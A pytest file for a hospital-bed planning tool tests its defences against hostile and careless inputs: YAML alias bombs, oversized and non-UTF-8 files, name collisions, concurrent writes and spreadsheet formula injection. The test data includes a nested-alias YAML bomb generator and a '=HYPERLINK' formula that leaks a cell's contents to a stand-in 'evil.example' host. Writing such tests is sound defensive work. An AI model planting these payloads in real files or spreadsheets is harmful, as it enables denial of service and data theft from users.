"""Hostile and careless files (issue 11): YAML bombs, huge or non-UTF-8 files, option names
that collide, formulas in names, result folders written twice at once or cut short."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
import yaml

from optimiser.errors import InputError, ScenarioError
from optimiser.options import OptionLibrary, load_option, option_from_dict
from optimiser.scenario import DEFAULT_SCENARIO_PATH, load_scenario

SMALL_OPTION = {"name": "Plan A", "beds": {"melton": {"general": 20}}, "virtual_beds": "current"}


def alias_bomb(levels: int, key: str = "description") -> str:
    """Nested aliases: each level repeats the one below nine times (9**levels strings)."""
    lines = ["name: Bomb", "beds: {melton: {general: 20}}", "virtual_beds: current",
             'l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]")
    lines.append(f"{key}: *l{levels - 1}")
    return "\n".join(lines) + "\n"


# ---- item 3: YAML bombs, size caps, messages that do not echo the input ----------------------

def test_an_option_upload_with_nested_aliases_is_refused_and_nothing_is_saved(tmp_path):
    library = OptionLibrary(tmp_path / "options")
    bomb = alias_bomb(5).encode()          # 5 levels: 59,049 strings from 350 bytes
    assert len(bomb) < 500
    with pytest.raises(InputError) as caught:
        library.import_file(bomb, "bomb.yaml")
    message = str(caught.value)
    assert "bomb.yaml" in message and "anchor" in message and "row 4" in message
    assert not (tmp_path / "options").exists() or not list((tmp_path / "options").iterdir())


def test_a_scenario_with_an_alias_is_refused_with_the_file_and_line(tmp_path):
    text = DEFAULT_SCENARIO_PATH.read_text(encoding="utf-8")
    text = text.replace("name: LLR default (2030)", "name: &n LLR default (2030)\ndescription: *n")
    text = text.replace("description: >-", "old_description: >-", 1)
    bad = tmp_path / "aliased.yaml"
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(ScenarioError, match=r"file 'aliased.yaml'.*anchor.*line \d+"):
        load_scenario(bad)


def test_scenario_messages_never_echo_a_huge_value(tmp_path):
    huge = "9" * 400_000
    bad = tmp_path / "huge_value.yaml"
    bad.write_text(f"name: x\nhorizon_year: '{huge}'\n", encoding="utf-8")
    with pytest.raises(ScenarioError) as caught:
        load_scenario(bad)
    message = str(caught.value)
    assert "huge_value.yaml" in message and "horizon_year" in message
    assert len(message) < 1_100


def test_scenario_and_option_files_over_the_size_cap_are_refused_unread(tmp_path):
    big = tmp_path / "big_option.yaml"
    big.write_text(yaml.safe_dump(SMALL_OPTION) + "description: " + "x" * 1_100_000 + "\n")
    with pytest.raises(InputError, match=r"big_option.yaml.*1,100,\d+ bytes; the most accepted is 1,000,000"):
        OptionLibrary(tmp_path / "lib").import_file(big.read_bytes(), "big_option.yaml")
    assert not (tmp_path / "lib").exists()
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "copied_in.yaml").write_bytes(big.read_bytes())      # put in the folder by hand
    assert "the most accepted is 1,000,000" in str(OptionLibrary(tmp_path / "lib").load_all()[1][0])
    huge = tmp_path / "huge_option.yaml"        # on the command line the cap is 50 MB: not even read
    with open(huge, "wb") as handle:
        handle.truncate(50_000_001)
    with pytest.raises(InputError, match=r"huge_option.yaml.*50,000,001 bytes; the most accepted is 50,000,000"):
        load_option(huge)
    scenario = tmp_path / "big_scenario.yaml"
    scenario.write_text("name: x\ndescription: " + "y" * 1_200_000 + "\n")
    with pytest.raises(ScenarioError, match="big_scenario.yaml.*the most accepted is 1,000,000"):
        load_scenario(scenario)


def test_non_utf8_scenario_and_option_get_a_message_not_a_traceback(tmp_path):
    scenario = tmp_path / "latin.yaml"
    scenario.write_bytes("name: Caf\u00e9 \u2013 plan\n".encode("cp1252"))
    with pytest.raises(ScenarioError, match=r"latin.yaml.*not UTF-8 text"):
        load_scenario(scenario)
    option = tmp_path / "utf16.yaml"
    option.write_bytes(yaml.safe_dump(SMALL_OPTION).encode("utf-16"))
    with pytest.raises(InputError, match=r"utf16.yaml.*UTF-16"):
        load_option(option)


def test_the_option_library_is_parsed_once_and_again_only_when_a_file_changes(tmp_path):
    library = OptionLibrary(tmp_path)
    library.save(option_from_dict(SMALL_OPTION))
    first = library.load("Plan A")
    assert library.load("Plan A") is first, "a second page load must not parse the file again"
    path = library.path_of("Plan A")
    path.write_text(yaml.safe_dump({**SMALL_OPTION, "description": "changed"}))
    assert library.load("Plan A").description == "changed"


# ---- item 9: the options library never loses work silently -----------------------------------

def _option(name: str, beds: int = 20):
    return option_from_dict({**SMALL_OPTION, "name": name, "beds": {"melton": {"general": beds}}})


def test_names_with_the_same_slug_get_different_files(tmp_path):
    library = OptionLibrary(tmp_path)
    paths = [library.save(_option(name, beds)) for name, beds in
             (("Plan A", 20), ("plan-a!", 24), ("!!!", 28), ("???", 32))]
    assert len(set(paths)) == 4
    good, bad = library.load_all()
    assert not bad
    assert {n: o.physical_beds for n, o in good.items()} == {"Plan A": 20, "plan-a!": 24, "!!!": 28, "???": 32}


def test_saving_a_name_the_library_holds_is_refused_unless_replacing(tmp_path):
    library = OptionLibrary(tmp_path)
    path = library.save(_option("Plan A", 20))
    with pytest.raises(InputError, match="already has an option called 'Plan A'"):
        library.save(_option("Plan A", 40))
    with pytest.raises(InputError, match="already has an option called 'Plan A'"):
        library.import_file(yaml.safe_dump({**SMALL_OPTION, "beds": {"melton": 36}}).encode(), "a.yaml")
    assert library.load("Plan A").physical_beds == 20
    assert library.save(_option("Plan A", 40), replace=True) == path
    assert library.load("Plan A").physical_beds == 40
    assert len(list(tmp_path.glob("*.yaml"))) == 1


def test_two_files_holding_one_name_are_both_reported_not_hidden(tmp_path):
    (tmp_path / "a.yaml").write_text(yaml.safe_dump(SMALL_OPTION))
    (tmp_path / "b.yaml").write_text(yaml.safe_dump({**SMALL_OPTION, "beds": {"melton": 30}}))
    good, bad = OptionLibrary(tmp_path).load_all()
    assert list(good) == ["Plan A"]
    assert len(bad) == 1 and "b.yaml" in str(bad[0]) and "a.yaml" in str(bad[0])


def test_concurrent_saves_of_colliding_names_keep_every_option(tmp_path):
    library = OptionLibrary(tmp_path)
    names = [f"Plan {'A' * (k % 2 + 1)}{'!' * k}" for k in range(8)]  # slugs: plan_a, plan_aa
    errors = []

    def save(name, beds):
        try:
            OptionLibrary(tmp_path).save(_option(name, beds))
        except Exception as exc:  # collected: the assertion below says what went wrong
            errors.append(exc)

    threads = [threading.Thread(target=save, args=(n, 12 + 2 * k)) for k, n in enumerate(names)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    good, bad = library.load_all()
    assert not bad and sorted(good) == sorted(names)
    assert not [p for p in Path(tmp_path).iterdir() if p.name.startswith(".")], "no temporary or lock files left"


# ---- item 8: formulas in names, sheet names Excel refuses --------------------------------------

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(1)"]


@pytest.fixture(scope="module")
def status_quo_with_formula_names(llr_dataset):
    """The status quo measured on the LLR dataset whose hospitals and districts are renamed
    to formulas (as an imported sites or boundaries file could name them)."""
    import dataclasses

    from optimiser import api
    from optimiser.options import shipped_options
    from optimiser.scenario import default_scenario

    sites = llr_dataset.sites.copy()
    sites["site_name"] = [FORMULA_NAMES[k % 4] + f" {k}" for k in range(len(sites))]
    districts = llr_dataset.districts.copy()
    districts["district_name"] = "=1+2"
    ds = dataclasses.replace(llr_dataset, sites=sites, districts=districts)
    return api.evaluate(default_scenario(), shipped_options()["Status quo"], ds), ds


def _formula_cells(xlsx: bytes) -> list[str]:
    import io

    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def test_result_workbook_keeps_formula_like_names_as_text(status_quo_with_formula_names):
    import io

    import pandas as pd

    from optimiser import api

    sol, _ = status_quo_with_formula_names
    xlsx = api.excel_bytes(sol)
    assert _formula_cells(xlsx) == []
    beds = pd.read_excel(io.BytesIO(xlsx), sheet_name="beds")
    assert set(FORMULA_NAMES) <= {n.rsplit(" ", 1)[0] for n in beds["site_name"]}, "the names are kept exactly"


def test_result_csvs_neutralise_formulas_and_keep_numbers(status_quo_with_formula_names, tmp_path):
    import pandas as pd

    from optimiser.outputs import write_results

    sol, ds = status_quo_with_formula_names
    write_results(sol, ds, tmp_path / "out")
    beds = pd.read_csv(tmp_path / "out" / "beds.csv")
    virtual = pd.read_csv(tmp_path / "out" / "virtual_beds.csv")
    for text in [*beds["site_name"], *virtual["district_name"]]:
        assert not text.startswith(("=", "+", "-", "@")), text
    assert any(t.startswith("'=HYPERLINK(") for t in beds["site_name"])
    assert beds["beds"].sum() == sol.metrics["physical_beds"]


def test_comparison_workbook_takes_any_option_names(status_quo_with_formula_names):
    import io

    import openpyxl

    from optimiser.compare import DEFAULT_CRITERIA, criteria_from
    from optimiser.scenario import load_scenario
    from optimiser.ui.compare_report import excel_bytes

    sol, _ = status_quo_with_formula_names
    labels = ["Option: A/B? *draft* [v2]", "West Leicestershire consolidation, variant one",
              "West Leicestershire consolidation, variant two", FORMULA_NAMES[0]]
    pairs = [(label, sol) for label in labels]
    scenario = load_scenario(DEFAULT_SCENARIO_PATH)
    xlsx = excel_bytes(pairs, scenario, criteria_from(DEFAULT_CRITERIA), None, "default settings", "the default dataset")
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    beds_sheets = [ws for ws in book.worksheets if ws.title.startswith("Beds")]
    assert len(beds_sheets) == 4, [ws.title for ws in book.worksheets]
    # each option on its own sheet, named in full; a name that would run as a formula is kept as text
    shown = [("'" + label) if label.startswith(("=", "+", "-", "@")) else label for label in labels]
    assert [ws["A2"].value for ws in beds_sheets] == shown
    header = [c.value for c in book["Comparison"][1]]
    assert all(label in header for label in shown), header
    assert _formula_cells(xlsx) == []


def test_compare_csv_neutralises_option_names(tmp_path):
    import json

    import pandas as pd

    from optimiser.cli import main

    folder = tmp_path / "r"
    folder.mkdir()
    (folder / "summary.json").write_text(json.dumps({"name": "=HYPERLINK(\"http://x\")", "metrics": {"physical_beds": 3}}))
    assert main(["compare", str(folder), "--csv", str(tmp_path / "c.csv")]) == 0
    table = pd.read_csv(tmp_path / "c.csv", index_col=0)
    assert list(table.columns) == ["'=HYPERLINK(\"http://x\")"]


# ---- item 7 and item 6 (--out): result folders are written whole, or not at all ----------------

def run_cli(*args, limit_file_bytes: int | None = None, **popen):
    import resource
    import signal
    import subprocess
    import sys

    def limit():
        if limit_file_bytes is not None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)       # a failed write, not a killed process
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_file_bytes, limit_file_bytes))

    cwd = Path(__file__).resolve().parent.parent
    return subprocess.run([sys.executable, "-m", "optimiser", *args], capture_output=True, text=True, cwd=cwd,
                          timeout=600, preexec_fn=limit, **popen)


def _folder_state(folder: Path) -> tuple[int, int, int]:
    """(beds in summary.json, in beds.csv, in result.gpkg's sites layer): equal in a whole set."""
    import json

    import geopandas as gpd
    import pandas as pd

    summary = json.loads((folder / "summary.json").read_text())["metrics"]["physical_beds"]
    csv = int(pd.read_csv(folder / "beds.csv")["beds"].sum())
    gpkg = int(gpd.read_file(folder / "result.gpkg", layer="sites")["beds"].sum())
    return summary, csv, gpkg


def _hidden_leftovers(parent: Path) -> list[str]:
    return sorted(p.name for p in parent.iterdir() if p.name.startswith("."))


@pytest.mark.slow
def test_a_write_that_fails_half_way_leaves_the_previous_results_whole(tmp_path):
    out = tmp_path / "out"
    r = run_cli("evaluate", "--option", "data/options/status_quo.yaml", "--out", str(out))
    assert r.returncode == 0, r.stderr
    before = _folder_state(out)
    assert before == (247, 247, 247)
    # the next run can write its CSVs and JSON (< 200 kB) but not its GeoPackage (about 450 kB)
    r = run_cli("evaluate", "--option", "data/options/west_leicestershire_proposal.yaml", "--out", str(out),
                limit_file_bytes=200_000)
    assert r.returncode == 2, r.stdout + r.stderr
    assert "Traceback" not in r.stderr and "could not write the results" in r.stderr
    assert "left as it was" in r.stderr
    assert _folder_state(out) == before
    assert _hidden_leftovers(tmp_path) == []
    from optimiser.outputs import check_manifest

    check_manifest(out)


@pytest.mark.slow
def test_a_run_killed_while_writing_leaves_a_whole_folder_and_its_leftovers_are_cleared(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    out = tmp_path / "out"
    assert run_cli("evaluate", "--option", "data/options/status_quo.yaml", "--out", str(out)).returncode == 0
    proc = subprocess.Popen([sys.executable, "-m", "optimiser", "evaluate", "--option",
                             "data/options/west_leicestershire_proposal.yaml", "--out", str(out)],
                            cwd=Path(__file__).resolve().parent.parent, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    while proc.poll() is None and not list(tmp_path.glob(".out.new-*/result.gpkg")) \
            and not list(tmp_path.glob(".out.new-*/.result.gpkg*")):
        time.sleep(0.002)
    proc.send_signal(signal.SIGKILL)
    assert proc.wait() == -signal.SIGKILL, "killed while it was writing"
    state = _folder_state(out)
    assert state[0] == state[1] == state[2], "never a mix of two runs"
    assert any(name.startswith(".out.new-") for name in _hidden_leftovers(tmp_path))
    r = run_cli("evaluate", "--option", "data/options/west_leicestershire_proposal.yaml", "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert _folder_state(out) == (262, 262, 262)      # the proposal: 262 hospital beds in LLR
    assert _hidden_leftovers(tmp_path) == []
    from optimiser.outputs import check_manifest

    check_manifest(out)


@pytest.mark.slow
def test_a_second_run_into_a_folder_being_written_is_refused(tmp_path):
    from optimiser.outputs import ResultFolder

    out = tmp_path / "out"
    with ResultFolder(out):
        r = run_cli("evaluate", "--option", "data/options/status_quo.yaml", "--out", str(out))
    assert r.returncode == 2 and "in use by another run" in r.stderr and "Traceback" not in r.stderr
    assert not out.exists()


@pytest.mark.slow
def test_out_that_cannot_hold_results_is_refused_before_solving(tmp_path):
    a_file = tmp_path / "notes.txt"
    a_file.write_text("keep me")
    home_like = tmp_path / "home"
    home_like.mkdir()
    (home_like / "thesis.docx").write_text("keep me too")
    for out, words in ((a_file, "is a file"), (home_like, "holds other files (thesis.docx)"),
                       (a_file / "sub", "cannot write results")):
        r = run_cli("solve", "--out", str(out))   # refused at once: the full solve takes 15 s or more
        assert r.returncode == 2 and words in r.stderr and "Traceback" not in r.stderr, r.stderr
        assert r.stdout == ""
    assert a_file.read_text() == "keep me" and (home_like / "thesis.docx").read_text() == "keep me too"
    r = run_cli("compare", str(tmp_path), "--csv", str(tmp_path))
    assert r.returncode == 2 and "Traceback" not in r.stderr
